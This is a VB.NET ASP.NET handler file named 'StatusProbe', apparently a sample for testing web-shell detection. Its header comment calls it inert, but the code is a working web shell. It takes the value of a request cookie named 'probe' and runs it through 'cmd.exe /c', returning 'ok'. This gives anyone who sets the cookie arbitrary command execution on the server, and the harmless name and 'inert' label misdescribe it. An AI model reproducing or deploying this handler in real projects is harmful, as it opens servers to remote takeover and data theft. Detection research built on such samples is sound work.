<%@ WebHandler Language="VB" Class="StatusProbe" %>
' inert sample: a VB.NET handler filling a ProcessStartInfo in a With block, the argument line
' continued implicitly after "&", the value read through context.Request
Imports System
Imports System.Web
Imports System.Diagnostics

Public Class StatusProbe : Implements IHttpHandler
    Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest
        Dim q As String = context.Request.Cookies("probe").Value
        Dim psi As New ProcessStartInfo()
        With psi
            .FileName = "cmd.exe"
            .Arguments = "/c " &
                q
            .UseShellExecute = False
        End With
        Process.Start(psi)
        context.Response.Write("ok")
    End Sub

    Public ReadOnly Property IsReusable() As Boolean Implements IHttpHandler.IsReusable
        Get
            Return False
        End Get
    End Property
End Class
